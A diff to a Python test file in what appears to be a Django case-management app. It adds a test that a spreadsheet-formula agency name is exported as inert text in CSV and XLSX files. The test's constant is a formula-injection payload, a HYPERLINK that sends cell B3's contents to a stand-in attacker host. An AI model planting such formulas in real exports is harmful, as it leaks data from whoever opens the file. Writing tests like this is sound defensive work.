@@ -123,3 +123,26 @@ def test_leaders_cannot_open_any_case_task_or_person_route(client, finished_case
         assert client.get("/api/v1/cases/").json()["results"] == []
         assert client.get("/api/v1/tasks/").json()["results"] == []
         assert prison.reference not in client.get("/cases/").content.decode()
+
+
+FORMULA = '=HYPERLINK("https://angriper.example/?"&B3;"Klikk")'
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_a_name_that_looks_like_a_formula_is_exported_as_text(client, finished_cases, users, agencies, fmt):
+    """Row labels come from names others choose (a task's name in a deployed model, an
+    agency's name): one written as a spreadsheet formula must not run in the leader's
+    spreadsheet when the export is opened (CSV or formula injection)."""
+    agencies["nav"].name = FORMULA
+    agencies["nav"].save(update_fields=["name"])
+    response = signed_in(client, users["leif"]).get(reverse("insight-export", args=["ball_by_agency", fmt]))
+    assert response.status_code == 200
+    if fmt == "csv":
+        cells = [cell for line in response.content.decode("utf-8-sig").splitlines() for cell in line.split(";")]
+        labels = [cell for cell in cells if "HYPERLINK" in cell]
+        assert labels and all(not cell.lstrip('"').startswith(("=", "+", "-", "@")) for cell in labels)
+    else:
+        sheet = load_workbook(io.BytesIO(response.content)).active
+        labels = [cell for row in sheet.iter_rows() for cell in row if "HYPERLINK" in str(cell.value)]
+        assert labels and all(cell.data_type == "s" for cell in labels)
+        assert all(cell.value == FORMULA for cell in labels)  # shown as it was written
